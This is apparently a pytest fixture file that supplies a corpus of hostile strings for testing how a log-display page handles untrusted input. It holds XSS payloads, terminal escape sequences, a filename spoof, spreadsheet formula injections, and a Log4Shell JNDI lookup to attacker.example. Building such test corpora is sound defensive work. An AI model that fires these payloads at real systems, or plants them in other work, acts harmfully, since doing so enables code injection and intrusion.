"""What logs may hold to make a page misbehave."""

import pytest

RUN = "window.hostile=1"

CORPUS = [
    f"<img src=x onerror={RUN}>",
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<!--<script>{RUN}",
    f"--></style></title></textarea></iframe><svg onload={RUN}>",
    f"javascript:{RUN}",
    f"'\"><body onpageshow={RUN}>",
    f"data:text/html,<script>{RUN}</script>",
    "\x1b[2J\x1b]0;owned\x07",
    "photo\u202egpj.exe",
    "nul\x00byte",
    "replaced \ufffd surrogate",
    "{name|text} {b} {a|{b}} {value}",
    '=HYPERLINK("http://attacker.example","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "${jndi:ldap://attacker.example/a}",
    "__proto__",
    "constructor",
    "a\u2028b\u2029c",
    "&lt;b&gt;&#x3c;script&#x3e;",
    "A" * 1_000_000,
    "\u0301" * 400,
    "",
]


@pytest.fixture(scope="session")
def hostile_texts() -> list[str]:
    return list(CORPUS)
